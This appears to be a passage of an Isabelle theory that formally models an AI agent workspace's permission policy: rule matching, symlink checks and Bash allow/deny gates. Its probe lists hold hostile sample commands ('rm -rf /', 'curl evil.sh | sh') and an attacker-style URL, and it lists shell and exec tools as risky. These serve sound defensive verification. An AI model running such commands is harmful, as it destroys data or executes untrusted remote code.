(* ===== verification/Permission_Policy.thy ===== *)
theory Permission_Policy
  imports Permission_Rules Command_Words Paths
begin

text \<open>
  The permission policy (\<open>xai-grok-workspace/src/permission/policy.rs\<close>): compiled rules, their
  evaluation for every kind of access, the symlink re-check, and the gates for Bash commands.
  What the source takes from elsewhere is the record \<open>policy_env\<close>: the \<open>glob\<close> crate, the
  host of a URL, Unicode lower-casing, the tree-sitter decomposition of a script into commands,
  and the file system's symlinks.  The bounded recursion into inline scripts passes the
  evaluation of the next level down as a function.
\<close>

section \<open>Accesses and decisions\<close>

datatype access_kind =
    ReadAccess "rstring option"
  | GrepAccess "rstring option" "rstring option"
  | EditAccess rstring
  | BashAccess rstring
  | MCPToolAccess rstring json
  | WebFetchAccess rstring
  | WebSearchAccess rstring
  | AgentMessageAccess rstring
  | ComputerAccess rstring

datatype decision = AllowIt | AskUser | FollowupMessage rstring | Reject rstring | PolicyDeny rstring | Cancelled

datatype gate_decision = GateReject rstring | AskRuleMatch | AskFailClosed

fun into_decision :: "gate_decision \<Rightarrow> decision" where
  "into_decision (GateReject reason) = Reject reason"
| "into_decision AskRuleMatch = AskUser"
| "into_decision AskFailClosed = AskUser"

definition is_ask :: "gate_decision \<Rightarrow> bool" where
  "is_ask g \<longleftrightarrow> g = AskRuleMatch \<or> g = AskFailClosed"

fun gate_rank :: "gate_decision \<Rightarrow> nat" where
  "gate_rank (GateReject _) = 3"
| "gate_rank AskRuleMatch = 2"
| "gate_rank AskFailClosed = 1"

definition combine_gate_decisions :: "gate_decision option \<Rightarrow> gate_decision option \<Rightarrow> gate_decision option" where
  "combine_gate_decisions a b = (case (a, b) of
     (None, other) \<Rightarrow> other
   | (other, None) \<Rightarrow> other
   | (Some x, Some y) \<Rightarrow> Some (if gate_rank x \<ge> gate_rank y then x else y))"

fun decision_rank :: "decision \<Rightarrow> nat" where
  "decision_rank (Reject _) = 3"
| "decision_rank (PolicyDeny _) = 3"
| "decision_rank AskUser = 2"
| "decision_rank AllowIt = 1"
| "decision_rank (FollowupMessage _) = 0"
| "decision_rank Cancelled = 0"

definition combine_decisions :: "decision option \<Rightarrow> decision option \<Rightarrow> decision option" where
  "combine_decisions a b = (case (a, b) of
     (None, other) \<Rightarrow> other
   | (other, None) \<Rightarrow> other
   | (Some x, Some y) \<Rightarrow> Some (if decision_rank x \<ge> decision_rank y then x else y))"

section \<open>The environment\<close>

datatype link_metadata = IsLink | NotLink | MetaNotFound | MetaError
  \<comment> \<open>what \<open>std::fs::symlink_metadata\<close> tells: the file type, or the kind of the error\<close>

record 'g policy_env =
  glob_new :: "rstring \<Rightarrow> 'g option"
  glob_matches_with :: "'g \<Rightarrow> bool \<Rightarrow> rstring \<Rightarrow> bool"  \<comment> \<open>second: \<open>require_literal_separator\<close>\<close>
  url_host :: "rstring \<Rightarrow> rstring option"
  to_lowercase :: "rstring \<Rightarrow> rstring"
  all_commands_from_script :: "rstring \<Rightarrow> rstring list list option"
  canonicalize :: "rstring \<Rightarrow> rstring option"  \<comment> \<open>\<open>dunce::canonicalize\<close>\<close>
  symlink_metadata :: "rstring \<Rightarrow> link_metadata"
  read_link :: "rstring \<Rightarrow> rstring option"

datatype match_context = PathContext | Freeform

definition glob_matches :: "'g policy_env \<Rightarrow> rstring \<Rightarrow> match_context \<Rightarrow> 'g option \<Rightarrow> bool" where
  "glob_matches env txt ctx pat = (case pat of None \<Rightarrow> False
     | Some g \<Rightarrow> glob_matches_with env g (ctx = PathContext) txt)"

section \<open>Paths in rules\<close>

definition path_match_string :: "rstring \<Rightarrow> rstring" where
  "path_match_string p = map (\<lambda>c. if c = 92 then 47 else c) p"

definition is_tilde_path :: "rstring \<Rightarrow> bool" where
  "is_tilde_path p = (case components p of Normal first # _ \<Rightarrow> starts_with first [126] | _ \<Rightarrow> False)"

definition path_has_parent_dir :: "rstring \<Rightarrow> bool" where
  "path_has_parent_dir p = (ParentDir \<in> set (components p))"

definition cwd_joined :: "rstring \<Rightarrow> rstring option \<Rightarrow> rstring" where
  "cwd_joined path cwd = (case cwd of
     Some d \<Rightarrow> if \<not> is_absolute path then path_join d path else path
   | None \<Rightarrow> path)"

definition absolute_normalized_path :: "rstring \<Rightarrow> rstring option \<Rightarrow> rstring" where
  "absolute_normalized_path path cwd =
     (if is_tilde_path path then path else normalize_lexically (cwd_joined path cwd))"

definition raw_absolute_tool_path :: "rstring \<Rightarrow> rstring option \<Rightarrow> rstring option" where
  "raw_absolute_tool_path path cwd =
     (if is_tilde_path path then None
      else let joined = cwd_joined path cwd in
        if is_absolute joined then Some (path_match_string joined) else None)"

definition path_match_forms :: "rstring \<Rightarrow> rstring option \<Rightarrow> rstring list" where
  "path_match_forms path cwd =
     (let abs = absolute_normalized_path path cwd; forms = [path_match_string abs] in
      case cwd of
        Some d \<Rightarrow> (case path_strip_prefix abs (normalize_lexically d) of
            Some rel \<Rightarrow>
              let rel_s = path_match_string rel in
              if rel_s = [] \<or> rel_s = lit ''.'' then forms @ [lit ''.'', lit ''./'']
              else forms @ [lit ''./'' @ rel_s, rel_s]
          | None \<Rightarrow> forms)
      | None \<Rightarrow>
          if \<not> is_absolute abs \<and> \<not> path_has_parent_dir abs \<and> \<not> is_tilde_path abs then
            let lex_s = path_match_string abs in
            if lex_s \<noteq> lit ''.'' \<and> lex_s \<noteq> [] then forms @ [lit ''./'' @ lex_s] else forms
          else forms)"

section \<open>Matching one rule\<close>

record 'g compiled_rule =
  cr_rule :: permission_rule
  cr_matcher :: "'g option"

definition compile_matcher :: "'g policy_env \<Rightarrow> permission_rule \<Rightarrow> 'g option" where
  "compile_matcher env rule = (case pattern rule of
     None \<Rightarrow> None | Some p \<Rightarrow> if p = lit ''*'' then None else glob_new env p)"

definition tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access filt = (case filt of
     AnyTool \<Rightarrow> True
   | BashTool \<Rightarrow> (case access of BashAccess _ \<Rightarrow> True | _ \<Rightarrow> False)
   | EditTool \<Rightarrow> (case access of EditAccess _ \<Rightarrow> True | _ \<Rightarrow> False)
   | ReadTool \<Rightarrow> (case access of ReadAccess _ \<Rightarrow> True | GrepAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)
   | GrepTool \<Rightarrow> (case access of GrepAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)
   | McpTool \<Rightarrow> (case access of MCPToolAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)
   | WebFetchTool \<Rightarrow> (case access of WebFetchAccess _ \<Rightarrow> True | _ \<Rightarrow> False)
   | WebSearchTool \<Rightarrow> (case access of WebSearchAccess _ \<Rightarrow> True | _ \<Rightarrow> False)
   | AgentMessageTool \<Rightarrow> (case access of AgentMessageAccess _ \<Rightarrow> True | _ \<Rightarrow> False))"

definition path_context_matches ::
  "'g policy_env \<Rightarrow> rstring \<Rightarrow> 'g compiled_rule \<Rightarrow> rstring option \<Rightarrow> bool" where
  "path_context_matches env path cr cwd =
     list_ex (\<lambda>txt. glob_matches env txt PathContext (cr_matcher cr)) (path_match_forms path cwd)"

definition trim_end_char :: "rchar \<Rightarrow> rstring \<Rightarrow> rstring" where
  "trim_end_char c s = rev (dropWhile (\<lambda>x. x = c) (rev s))"

definition normalize_domain :: "'g policy_env \<Rightarrow> rstring \<Rightarrow> rstring" where
  "normalize_domain env raw =
     (let s = trim_end_char 46 (trim_end_char 47 (trim raw));
          s = (case strip_prefix s (lit ''www.'') of Some t \<Rightarrow> t | None \<Rightarrow> s) in
      to_lowercase env s)"

definition domain_matches :: "'g policy_env \<Rightarrow> rstring \<Rightarrow> rstring \<Rightarrow> bool" where
  "domain_matches env pat url = (case url_host env url of
     None \<Rightarrow> False
   | Some host \<Rightarrow>
       let domain = normalize_domain env host; normalized_pattern = normalize_domain env pat in
       domain = normalized_pattern \<or> ends_with domain (lit ''.'' @ normalized_pattern))"

definition pattern_matches ::
  "'g policy_env \<Rightarrow> access_kind \<Rightarrow> 'g compiled_rule \<Rightarrow> rstring option \<Rightarrow> bool" where
  "pattern_matches env access cr cwd = (case pattern (cr_rule cr) of
     None \<Rightarrow> True
   | Some pat \<Rightarrow>
       if pat = lit ''*'' then True
       else (case access of
         BashAccess cmd \<Rightarrow>
           let cmd = trim_start cmd in starts_with cmd pat \<or> glob_matches env cmd Freeform (cr_matcher cr)
       | EditAccess path \<Rightarrow> path_context_matches env path cr cwd
       | ReadAccess path \<Rightarrow> (case path of Some p \<Rightarrow> path_context_matches env p cr cwd | None \<Rightarrow> False)
       | GrepAccess path _ \<Rightarrow> (case path of Some p \<Rightarrow> path_context_matches env p cr cwd | None \<Rightarrow> False)
       | MCPToolAccess name _ \<Rightarrow> glob_matches env name Freeform (cr_matcher cr)
       | WebFetchAccess url \<Rightarrow> (case pattern_mode (cr_rule cr) of
             Domain \<Rightarrow> domain_matches env pat url
           | Glob \<Rightarrow> glob_matches env url Freeform (cr_matcher cr))
       | WebSearchAccess query \<Rightarrow>
           glob_matches env query Freeform (cr_matcher cr) \<or> starts_with query pat
       | AgentMessageAccess subagent_id \<Rightarrow>
           glob_matches env subagent_id Freeform (cr_matcher cr) \<or> starts_with subagent_id pat
       | ComputerAccess summary \<Rightarrow>
           glob_matches env summary Freeform (cr_matcher cr) \<or> starts_with summary pat))"

section \<open>Bash patterns\<close>

definition matches_command_prefix :: "rstring \<Rightarrow> rstring \<Rightarrow> bool" where
  "matches_command_prefix cmd pat \<longleftrightarrow> cmd = pat \<or>
     starts_with cmd pat \<and> length pat < length cmd \<and> cmd ! length pat = 32"

definition bash_command_matches_pattern ::
  "'g policy_env \<Rightarrow> rstring \<Rightarrow> rstring \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_command_matches_pattern env command pat precompiled =
     (let command = trim_start command; pat = trim pat in
      if pat = [] then False
      else if pat = lit ''*'' then True
      else if matches_command_prefix command pat then True
      else case precompiled of
        Some p \<Rightarrow> glob_matches env command Freeform (Some p)
      | None \<Rightarrow> (case glob_new env pat of
          Some p \<Rightarrow> glob_matches env command Freeform (Some p) | None \<Rightarrow> False))"

definition bash_allow_pattern_matches ::
  "'g policy_env \<Rightarrow> rstring \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_allow_pattern_matches env cmd rule matcher = (case pattern rule of
     None \<Rightarrow> True
   | Some pat \<Rightarrow> if pat = lit ''*'' then True else bash_command_matches_pattern env cmd pat matcher)"

definition bash_pattern_matches_command :: "'g policy_env \<Rightarrow> rstring \<Rightarrow> rstring \<Rightarrow> bool" where
  "bash_pattern_matches_command env pat command = bash_command_matches_pattern env command pat None"

definition bash_pattern_is_broad :: "rstring \<Rightarrow> bool" where
  "bash_pattern_is_broad pat = (let pat = trim pat in
     if pat = [] then False else pat = lit ''*'' \<or> \<not> list_ex is_whitespace pat)"

definition EXEC_VEHICLE_HEADS :: "rstring list" where
  "EXEC_VEHICLE_HEADS = map lit [''sh'', ''bash'', ''zsh'', ''dash'', ''ksh'', ''fish'',
     ''deno'', ''bun'', ''julia'', ''rscript'', ''awk'', ''gawk'', ''mawk'', ''nawk'', ''nodejs'', ''luajit'', ''phpdbg'',
     ''php-cgi'', ''pythonw'', ''npx'', ''bunx'', ''pipx'', ''uvx'', ''uv'',
     ''xargs'', ''find'', ''sudo'', ''doas'', ''su'', ''ssh'', ''watch'', ''setsid'', ''flock'', ''chroot'', ''nsenter'',
     ''docker'', ''podman'']"

definition EXEC_VEHICLE_HEAD_FAMILIES :: "rstring list" where
  "EXEC_VEHICLE_HEAD_FAMILIES = map lit [''python'', ''node'', ''ruby'', ''perl'', ''php'', ''lua'']"

definition normalized_command_head :: "rstring list \<Rightarrow> rstring option" where
  "normalized_command_head words = (case words of [] \<Rightarrow> None
     | w # _ \<Rightarrow> let head = to_ascii_lowercase (basename w) in
         Some (case strip_suffix head (lit ''.exe'') of Some h \<Rightarrow> h | None \<Rightarrow> head))"

definition head_is_exec_vehicle :: "rstring list \<Rightarrow> bool" where
  "head_is_exec_vehicle words = (case normalized_command_head words of
     None \<Rightarrow> False
   | Some head \<Rightarrow> head \<in> set EXEC_VEHICLE_HEADS \<or>
       list_ex (\<lambda>family. case strip_prefix head family of
           None \<Rightarrow> False
         | Some rest \<Rightarrow>
             let core = (case strip_suffix rest [116] of Some r \<Rightarrow> r | None \<Rightarrow> rest) in
             list_all (\<lambda>c. is_ascii_digit c \<or> c = 46) core) EXEC_VEHICLE_HEAD_FAMILIES)"

section \<open>Inline shell scripts\<close>

datatype shell_word = LiteralWord rstring | UntrustedWord

datatype inline_shell_script = NotInline | LiteralAt nat | Untrusted | Unrecognized

definition is_potential_inline :: "inline_shell_script \<Rightarrow> bool" where
  "is_potential_inline i = (case i of LiteralAt _ \<Rightarrow> True | Untrusted \<Rightarrow> True | _ \<Rightarrow> False)"

definition ambiguous_inline :: "bool \<Rightarrow> inline_shell_script" where
  "ambiguous_inline saw_c = (if saw_c then Untrusted else Unrecognized)"

definition finish_literal :: "bool \<Rightarrow> nat \<Rightarrow> inline_shell_script" where
  "finish_literal dynamic_head index = (if dynamic_head then Untrusted else LiteralAt index)"

definition no_script :: "bool \<Rightarrow> inline_shell_script" where
  "no_script unrecognized = (if unrecognized then Unrecognized else NotInline)"

text \<open>One option word: stop with a verdict, skip it, skip its operand too, or note a flag.\<close>

datatype option_step = Stop inline_shell_script | Skip bool bool | SkipOperand

definition option_word :: "bool \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> rstring \<Rightarrow> shell_word list \<Rightarrow> option_step" where
  \<comment> \<open>\<open>Skip\<close> carries the new \<open>saw_c\<close> and \<open>unrecognized\<close>\<close>
  "option_word dynamic_head i saw_c unrecognized word rest =
     (if word = lit ''--'' \<or> word = lit ''-'' then
        (if \<not> saw_c then Stop (no_script unrecognized)
         else case rest of LiteralWord _ # _ \<Rightarrow> Stop (finish_literal dynamic_head (i + 1)) | _ \<Rightarrow> Stop Untrusted)
      else if \<not> dashed word \<and> \<not> starts_with word [43] then
        Stop (if saw_c then finish_literal dynamic_head i else no_script unrecognized)
      else if word = lit ''--init-file'' \<or> word = lit ''--rcfile'' then
        (case rest of LiteralWord _ # _ \<Rightarrow> SkipOperand | _ \<Rightarrow> Stop (ambiguous_inline saw_c))
      else if double_dashed word then
        (if word \<in> set (map lit [''--noprofile'', ''--norc'', ''--posix'']) then Skip saw_c unrecognized
         else if saw_c then Stop Untrusted else Skip saw_c True)
      else if word \<in> set (map lit [''-o'', ''+o'', ''-O'', ''+O'']) then
        (case rest of LiteralWord v # _ \<Rightarrow> if \<not> dashed v then SkipOperand else Stop (ambiguous_inline saw_c)
         | _ \<Rightarrow> Stop (ambiguous_inline saw_c))
      else if starts_with word (lit ''-O'') \<and> length word > 2 then Skip saw_c unrecognized
      else if (starts_with word (lit ''+O'') \<or> starts_with word (lit ''+o'')) \<and> length word > 2
        then Skip saw_c unrecognized
      else if starts_with word (lit ''-o'') \<and> length word > 2 then Stop (ambiguous_inline saw_c)
      else if starts_with word [43] then Skip saw_c unrecognized
      else let flags = tl word in
        if 111 \<in> set flags \<or> 79 \<in> set flags then Stop (ambiguous_inline saw_c)
        else Skip (saw_c \<or> 99 \<in> set flags) unrecognized)"

fun dash_c_loop :: "bool \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> shell_word list \<Rightarrow> inline_shell_script" where
  "dash_c_loop dh i saw_c unrec [] = (if saw_c then Untrusted else no_script unrec)"
| "dash_c_loop dh i saw_c unrec (UntrustedWord # rest) = ambiguous_inline saw_c"
| "dash_c_loop dh i saw_c unrec (LiteralWord word # rest) =
     (case option_word dh i saw_c unrec word rest of
        Stop r \<Rightarrow> r
      | Skip c u \<Rightarrow> dash_c_loop dh (i + 1) c u rest
      | SkipOperand \<Rightarrow> (case rest of [] \<Rightarrow> Untrusted | _ # rest' \<Rightarrow> dash_c_loop dh (i + 2) saw_c unrec rest'))"

definition shell_dash_c_script :: "shell_word list \<Rightarrow> inline_shell_script" where
  "shell_dash_c_script words = (case words of
     [] \<Rightarrow> NotInline
   | LiteralWord program # rest \<Rightarrow>
       if basename program \<in> set (map lit [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''])
       then dash_c_loop False 1 False False rest else NotInline
   | UntrustedWord # rest \<Rightarrow> dash_c_loop True 1 False False rest)"

section \<open>Catch-all rules\<close>

definition bash_probes :: "access_kind list" where
  "bash_probes = map (\<lambda>c. BashAccess (lit c)) [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes = map (\<lambda>n. MCPToolAccess (lit n) JNull)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes = map (\<lambda>u. WebFetchAccess (lit u)) [''https://evil.example.com/x'', ''http://10.0.0.1/admin'',
     ''https://api.github.com/repos'', ''ftp://files.example.org/p'']"

definition agent_message_probes :: "access_kind list" where
  "agent_message_probes = map (\<lambda>a. AgentMessageAccess (lit a)) [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition compile_rule :: "'g policy_env \<Rightarrow> permission_rule \<Rightarrow> 'g compiled_rule" where
  "compile_rule env rule = \<lparr>cr_rule = rule, cr_matcher = compile_matcher env rule\<rparr>"

definition rule_is_catchall :: "'g policy_env \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall env rule =
     (let opens_all = (\<lambda>probes. list_all (\<lambda>a. pattern_matches env a (compile_rule env rule) None) probes) in
      case tool rule of
        BashTool \<Rightarrow> opens_all bash_probes
      | McpTool \<Rightarrow> opens_all mcp_probes
      | WebFetchTool \<Rightarrow> opens_all webfetch_probes
      | AgentMessageTool \<Rightarrow> opens_all agent_message_probes
      | AnyTool \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes \<or>
          opens_all agent_message_probes
      | _ \<Rightarrow> False)"

definition bash_glob_is_catchall :: "'g policy_env \<Rightarrow> rstring \<Rightarrow> bool" where
  "bash_glob_is_catchall env pat = list_all (\<lambda>access. case access of
     BashAccess cmd \<Rightarrow> bash_pattern_matches_command env pat cmd | _ \<Rightarrow> False) bash_probes"

section \<open>The compiled policy\<close>

record 'g compiled_policy =
  cp_config :: permission_config
  matchers :: "'g option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool
  has_bash_allow_rules :: bool
  catchall :: "bool list"

definition restrictive :: "permission_rule \<Rightarrow> bool" where
  "restrictive rule \<longleftrightarrow> action rule = Deny \<or> action rule = Ask"

definition policy_new :: "'g policy_env \<Rightarrow> permission_config \<Rightarrow> 'g compiled_policy" where
  "policy_new env config =
     \<lparr>cp_config = config,
      matchers = map (compile_matcher env) (rules config),
      has_file_restrictions =
        list_ex (\<lambda>r. restrictive r \<and> tool r \<in> {ReadTool, EditTool, AnyTool}) (rules config),
      has_bash_command_restrictions =
        list_ex (\<lambda>r. restrictive r \<and> tool r \<in> {BashTool, AnyTool}) (rules config),
      has_bash_allow_rules =
        list_ex (\<lambda>r. action r = Allow \<and> tool r \<in> {BashTool, AnyTool}) (rules config),
      catchall = map (rule_is_catchall env) (rules config)\<rparr>"

section \<open>The conjunctive allow gate for Bash\<close>

datatype allow_rule_scope = AnyScope | NarrowOnly

definition bash_words_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> rstring list \<Rightarrow> bool" where
  "bash_words_allowed env pol scope words =
     (if words = [] then False
      else let narrow_only = (scope = NarrowOnly) in
        if narrow_only \<and> head_is_exec_vehicle words then False
        else let cmd = join [32] words in
          list_ex (\<lambda>((rule, matcher), ca). \<not> (narrow_only \<and> ca) \<and> action rule = Allow \<and>
              tool rule \<in> {BashTool, AnyTool} \<and> bash_allow_pattern_matches env cmd rule matcher)
            (zip (zip (rules (cp_config pol)) (matchers pol)) (catchall pol)))"

definition segment_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> (rstring \<Rightarrow> bool) \<Rightarrow> rstring list \<Rightarrow> bool" where
  \<comment> \<open>one turn of the loop over the segments; \<open>inner\<close> judges a literal inline script\<close>
  "segment_allowed env pol scope inner words =
     (let norm = normalize_command_words words in
      if exhausted norm \<or> ambiguous norm \<or> env_options_uncertain norm \<or> has_split_string norm then False
      else if \<not> bash_words_allowed env pol scope (norm_words norm) then False
      else case shell_dash_c_script (map LiteralWord (norm_words norm)) of
        LiteralAt index \<Rightarrow> inner (norm_words norm ! index)
      | NotInline \<Rightarrow> True
      | _ \<Rightarrow> False)"

primrec bash_chain_fully_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> nat \<Rightarrow> rstring \<Rightarrow> bool" where
  "bash_chain_fully_allowed env pol scope 0 = (\<lambda>cmd. (case all_commands_from_script env cmd of
     None \<Rightarrow> False
   | Some segments \<Rightarrow> segments \<noteq> [] \<and> list_all (segment_allowed env pol scope (\<lambda>_. False)) segments))"
| "bash_chain_fully_allowed env pol scope (Suc depth) = (\<lambda>cmd. (case all_commands_from_script env cmd of
     None \<Rightarrow> False
   | Some segments \<Rightarrow> segments \<noteq> [] \<and>
       list_all (segment_allowed env pol scope (bash_chain_fully_allowed env pol scope depth)) segments))"

section \<open>Evaluating the rules\<close>

fun tool_label :: "tool_filter \<Rightarrow> rstring" where
  "tool_label AnyTool = lit ''any tool''"
| "tool_label BashTool = lit ''bash''"
| "tool_label EditTool = lit ''edit''"
| "tool_label ReadTool = lit ''read''"
| "tool_label GrepTool = lit ''grep''"
| "tool_label McpTool = lit ''mcp''"
| "tool_label WebFetchTool = lit ''web_fetch''"
| "tool_label WebSearchTool = lit ''web_search''"
| "tool_label AgentMessageTool = lit ''agent_message''"

definition deny_reason :: "permission_rule \<Rightarrow> rstring" where
  "deny_reason rule = lit ''Denied by permission policy: deny rule on '' @ tool_label (tool rule) @
     (case pattern rule of Some p \<Rightarrow> lit '' matching '' @ [34] @ p @ [34] | None \<Rightarrow> [])"

definition rule_applies ::
  "'g policy_env \<Rightarrow> access_kind \<Rightarrow> rstring option \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "rule_applies env access cwd rule matcher \<longleftrightarrow> tool_filter_matches access (tool rule) \<and>
     pattern_matches env access \<lparr>cr_rule = rule, cr_matcher = matcher\<rparr> cwd"

fun rule_loop ::
  "'g policy_env \<Rightarrow> access_kind \<Rightarrow> rstring option \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow>
     (permission_rule \<times> 'g option) list \<Rightarrow> decision + (bool \<times> bool)" where
  \<comment> \<open>\<open>Inl\<close> is the early return on a deny; \<open>Inr (matched_ask, matched_allow)\<close> otherwise\<close>
  "rule_loop env access cwd ask allow [] = Inr (ask, allow)"
| "rule_loop env access cwd ask allow ((rule, matcher) # rest) =
     (if \<not> rule_applies env access cwd rule matcher then rule_loop env access cwd ask allow rest
      else case action rule of
        Deny \<Rightarrow> Inl (Reject (deny_reason rule))
      | Ask \<Rightarrow> rule_loop env access cwd True allow rest
      | Allow \<Rightarrow> rule_loop env access cwd ask True rest)"

definition evaluate_lexical_with_cwd ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> rstring option \<Rightarrow> decision option" where
  "evaluate_lexical_with_cwd env pol access cwd =
     (case rule_loop env access cwd False False (zip (rules (cp_config pol)) (matchers pol)) of
        Inl d \<Rightarrow> Some d
      | Inr (matched_ask, matched_allow) \<Rightarrow>
          if matched_ask then Some AskUser
          else (case access of
            BashAccess cmd \<Rightarrow>
              if has_bash_allow_rules pol \<and>
                 bash_chain_fully_allowed env pol AnyScope MAX_INLINE_SHELL_DEPTH cmd
              then Some AllowIt else None
          | _ \<Rightarrow> if matched_allow then Some AllowIt else None))"

definition narrow_allow_authorizes :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> bool" where
  "narrow_allow_authorizes env pol access = (case access of
     BashAccess cmd \<Rightarrow> has_bash_allow_rules pol \<and>
       bash_chain_fully_allowed env pol NarrowOnly MAX_INLINE_SHELL_DEPTH cmd
   | _ \<Rightarrow> False)"

subsection \<open>Symlinks\<close>

datatype symlink_follow = NoLink | LinkTarget rstring | Unresolvable

definition path_has_symlink :: "'g policy_env \<Rightarrow> rstring \<Rightarrow> bool" where
  "path_has_symlink env absolute = (is_absolute absolute \<and>
     list_ex (\<lambda>i. symlink_metadata env (path_of (take (Suc i) (components absolute))) = IsLink)
       [0..<length (components absolute)])"

definition MAX_SYMLINK_DEPTH :: nat where "MAX_SYMLINK_DEPTH = 40"

primrec walk :: "'g policy_env \<Rightarrow> nat \<Rightarrow> rstring \<Rightarrow> rstring option" where
  \<comment> \<open>the counter is \<open>MAX_SYMLINK_DEPTH + 1 - depth\<close>: it is zero when the depth exceeds the maximum\<close>
  "walk env 0 path = None"
| "walk env (Suc left) path = (case canonicalize env path of
     Some canonical \<Rightarrow> Some canonical
   | None \<Rightarrow>
       Option.bind (path_parent path) (\<lambda>parent.
       Option.bind (path_file_name path) (\<lambda>file_name.
       Option.bind (walk env left (path_of parent)) (\<lambda>resolved_parent.
       let candidate = path_join resolved_parent file_name in
       case symlink_metadata env candidate of
         MetaError \<Rightarrow> None
       | IsLink \<Rightarrow> Option.bind (read_link env candidate) (\<lambda>target.
           walk env left (if is_absolute target then target else path_join resolved_parent target))
       | _ \<Rightarrow> Some candidate))))"

definition resolve_following_symlinks :: "'g policy_env \<Rightarrow> rstring \<Rightarrow> rstring option" where
  "resolve_following_symlinks env path = walk env (Suc MAX_SYMLINK_DEPTH) path"

definition resolve_symlink_target :: "'g policy_env \<Rightarrow> rstring \<Rightarrow> rstring option" where
  "resolve_symlink_target env absolute =
     (if \<not> is_absolute absolute then None
      else map_option (\<lambda>r. path_match_string (normalize_lexically r)) (resolve_following_symlinks env absolute))"

definition follow_absolute_symlink :: "'g policy_env \<Rightarrow> rstring \<Rightarrow> rstring \<Rightarrow> symlink_follow" where
  "follow_absolute_symlink env raw_absolute lexical_absolute =
     (case resolve_symlink_target env raw_absolute of
        Some resolved \<Rightarrow> if resolved \<noteq> lexical_absolute then LinkTarget resolved else NoLink
      | None \<Rightarrow> if path_has_symlink env raw_absolute then Unresolvable else NoLink)"

definition native_file_path :: "access_kind \<Rightarrow> rstring option" where
  "native_file_path access = (case access of
     EditAccess path \<Rightarrow> Some path
   | ReadAccess path \<Rightarrow> path
   | GrepAccess path _ \<Rightarrow> path
   | _ \<Rightarrow> None)"

fun access_with_path :: "access_kind \<Rightarrow> rstring \<Rightarrow> access_kind" where
  \<comment> \<open>only called on accesses with a native path; the others are unreachable\<close>
  "access_with_path (EditAccess _) path = EditAccess path"
| "access_with_path (ReadAccess _) path = ReadAccess (Some path)"
| "access_with_path (GrepAccess _ g) path = GrepAccess (Some path) g"
| "access_with_path access path = access"

definition native_path_restrictions_apply :: "'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> bool" where
  "native_path_restrictions_apply pol access =
     list_ex (\<lambda>r. restrictive r \<and> tool_filter_matches access (tool r)) (rules (cp_config pol))"

definition escalation :: "decision option \<Rightarrow> decision option" where
  "escalation d = (case d of Some (Reject r) \<Rightarrow> d | Some AskUser \<Rightarrow> d | _ \<Rightarrow> None)"

definition evaluate_with_cwd_details ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> rstring option \<Rightarrow> decision option \<times> bool" where
  "evaluate_with_cwd_details env pol access cwd =
     (let lexical = evaluate_lexical_with_cwd env pol access cwd in
      case native_file_path access of
        None \<Rightarrow> (lexical, False)
      | Some path \<Rightarrow> (case raw_absolute_tool_path path cwd of
          None \<Rightarrow> (lexical, False)
        | Some raw_absolute \<Rightarrow>
            let lexical_abs = path_match_string (absolute_normalized_path path cwd) in
            (case follow_absolute_symlink env raw_absolute lexical_abs of
               LinkTarget resolved \<Rightarrow>
                 (combine_decisions lexical
                    (escalation (evaluate_lexical_with_cwd env pol (access_with_path access resolved) cwd)), False)
             | Unresolvable \<Rightarrow>
                 if native_path_restrictions_apply pol access
                 then (combine_decisions lexical (Some AskUser), True) else (lexical, False)
             | NoLink \<Rightarrow> (lexical, False))))"

definition evaluate_with_cwd ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> rstring option \<Rightarrow> decision option" where
  "evaluate_with_cwd env pol access cwd = fst (evaluate_with_cwd_details env pol access cwd)"

definition evaluate :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "evaluate env pol access = evaluate_with_cwd env pol access None"

section \<open>The deny and ask gate for Bash\<close>

definition escalate_segment :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> rstring \<Rightarrow> gate_decision option" where
  "escalate_segment env pol segment = (case evaluate env pol (BashAccess segment) of
     Some (Reject reason) \<Rightarrow> Some (GateReject reason)
   | Some AskUser \<Rightarrow> Some AskRuleMatch
   | _ \<Rightarrow> None)"

definition fail_closed_if :: "bool \<Rightarrow> gate_decision option" where
  "fail_closed_if b = (if b then Some AskFailClosed else None)"

definition evaluate_command_words ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (rstring \<Rightarrow> gate_decision option) \<Rightarrow> rstring list \<Rightarrow> gate_decision option" where
  \<comment> \<open>\<open>inner\<close> evaluates an inline script with the remaining depth; with no depth left it is
      the constant \<open>AskFailClosed\<close>\<close>
  "evaluate_command_words env pol inner raw_words =
